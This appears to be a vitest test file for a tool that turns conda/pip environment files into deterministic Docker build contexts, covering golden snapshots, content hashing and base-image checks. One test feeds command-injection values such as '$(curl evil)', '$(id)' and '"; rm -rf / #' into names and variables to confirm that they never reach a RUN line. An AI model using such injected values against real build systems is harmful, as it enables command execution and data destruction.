import { fileURLToPath } from "node:url";
import { describe, expect, test } from "vitest";
import { archiveBuildContext, type BuildContext, loadEnvironment, parseEnvironment, type RenderOptions, renderBuildContext } from "../src/index.js";

const fixture = (path: string) => fileURLToPath(new URL(`./fixtures/golden/${path}`, import.meta.url));
const example = (path: string) => fileURLToPath(new URL(`../../../examples/${path}`, import.meta.url));

/** The whole context as one text: every file, then the tag. */
function describeContext(context: BuildContext): string {
  const parts = [...context.files.keys()].sort().map((path) => `=== ${path} ===\n${context.files.get(path)?.toString("utf8")}`);
  return `${parts.join("\n")}=== tag ===\n${context.tag}\n`;
}

const goldens: [string, string, RenderOptions][] = [
  ["tutorial", example("environment.yml"), {}],
  ["arm64", fixture("arm64/environment.yml"), { platform: "linux/arm64" }],
  ["requirements-micromamba", fixture("requirements-micromamba/requirements.txt"), {}],
  ["requirements-pip", fixture("requirements-pip/requirements.txt"), { baseImage: "dask-fargate-action/offline-dask:bookworm" }],
  ["explicit", fixture("explicit/conda-linux-64.lock"), {}],
  [
    "variables-git",
    fixture("variables-git/environment.yml"),
    {
      baseImage: "mambaorg/micromamba:2.0.5@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
      buildArgNames: ["PIP_INDEX_URL"],
      labels: { "com.example.team": "forecasting" },
    },
  ],
];

describe("golden build contexts", () => {
  test.each(goldens)("%s", async (name, path, options) => {
    const platform = options.platform ?? "linux/amd64";
    const context = renderBuildContext(await loadEnvironment(path, platform), options);
    await expect(describeContext(context)).toMatchFileSnapshot(`./__golden__/${name}.context.txt`);
  });
});

describe("determinism", () => {
  test("the same input renders byte-identical files and archives", async () => {
    const a = renderBuildContext(await loadEnvironment(example("environment.yml")));
    const b = renderBuildContext(await loadEnvironment(example("environment.yml")));
    expect(describeContext(a)).toBe(describeContext(b));
    expect((await archiveBuildContext(a.files)).equals(await archiveBuildContext(b.files))).toBe(true);
  });

  test("reordering keys, dependencies and pip requirements keeps the hash", () => {
    const one =
      "name: x\nchannels: [conda-forge]\ndependencies:\n  - python=3.12\n  - numpy>=1.26\n  - dask=2024.8\n  - pip:\n    - xgboost==2.1.1\n    - rich\nvariables:\n  A: '1'\n  B: '2'\n";
    const two =
      "variables:\n  B: '2'\n  A: '1'\ndependencies:\n  - pip:\n    - rich\n    - XGBoost==2.1.1\n  - dask =2024.8\n  - NumPy >= 1.26\n  - python=3.12\nchannels: [conda-forge]\nname: x\n";
    expect(renderBuildContext(parseEnvironment("environment.yml", two)).contentHash).toBe(
      renderBuildContext(parseEnvironment("environment.yml", one)).contentHash,
    );
  });

  test("changing a version, the base image, the platform or a variable changes the hash", () => {
    const text = "channels: [conda-forge]\ndependencies:\n  - dask=2024.8\n  - numpy=1.26\n";
    const hash = (t: string, options: RenderOptions = {}) => renderBuildContext(parseEnvironment("environment.yml", t), options).contentHash;
    const base = hash(text);
    const variants = [
      hash(text.replace("numpy=1.26", "numpy=1.25")),
      hash(text, { baseImage: "mambaorg/micromamba:2.0.4" }),
      hash(text, { platform: "linux/arm64" }),
      hash(`${text}variables:\n  A: '1'\n`),
      hash(text.replace("[conda-forge]", "[conda-forge, bioconda]")),
      hash(text, { buildArgNames: ["PIP_INDEX_URL"] }),
    ];
    expect(new Set([base, ...variants]).size).toBe(variants.length + 1);
  });

  test("channel order is kept: it sets channel priority", () => {
    const a = renderBuildContext(parseEnvironment("environment.yml", "channels: [conda-forge, bioconda]\ndependencies: [dask]\n"));
    const b = renderBuildContext(parseEnvironment("environment.yml", "channels: [bioconda, conda-forge]\ndependencies: [dask]\n"));
    expect(a.contentHash).not.toBe(b.contentHash);
  });

  test("the tag is env- and the first 16 hex digits of the content hash", () => {
    const context = renderBuildContext(parseEnvironment("environment.yml", "dependencies: [dask]\n"));
    expect(context.tag).toBe(`env-${context.contentHash.slice(0, 16)}`);
    expect(context.contentHash).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe("user text never reaches a RUN line", () => {
  test("hostile names and values stay in COPY'd files or escaped ENV/LABEL values", () => {
    const text = [
      "name: '$(curl evil)'",
      "dependencies:",
      "  - dask",
      "  - pip:",
      "    - 'evil @ https://example.com/x.whl?$(id)'",
      "variables:",
      `  EVIL: '"; rm -rf / #'`,
    ].join("\n");
    const context = renderBuildContext(parseEnvironment("environment.yml", text));
    const runLines = context.dockerfile.split("\n").filter((l) => /^(RUN|\s{4}(&&|\|\|))/.test(l));
    for (const line of runLines) {
      expect(line).not.toMatch(/evil|rm -rf|\$\(/);
    }
    expect(context.dockerfile).toContain('ENV EVIL="\\"; rm -rf / #"');
    expect(context.files.get("requirements.txt")?.toString()).toContain("$(id)");
  });

  test("a pip base cannot take a conda environment", () => {
    expect(() =>
      renderBuildContext(parseEnvironment("environment.yml", "dependencies: [dask]\n"), { baseImage: "python:3.12-slim" }),
    ).toThrowErrorMatchingInlineSnapshot(
      `[ImageConfigError: base-image: "python:3.12-slim" has no conda, so it can only install a pip requirements file, not environment.yml; use a micromamba base image (e.g. mambaorg/micromamba:2.0.5) or a requirements.txt]`,
    );
  });

  test("an unpinned base image is refused", () => {
    expect(() =>
      renderBuildContext(parseEnvironment("environment.yml", "dependencies: [dask]\n"), { baseImage: "mambaorg/micromamba" }),
    ).toThrowErrorMatchingInlineSnapshot(
      `[ImageConfigError: base-image: "mambaorg/micromamba" is not pinned; add a tag or a digest, e.g. mambaorg/micromamba:2.0.5]`,
    );
  });
});
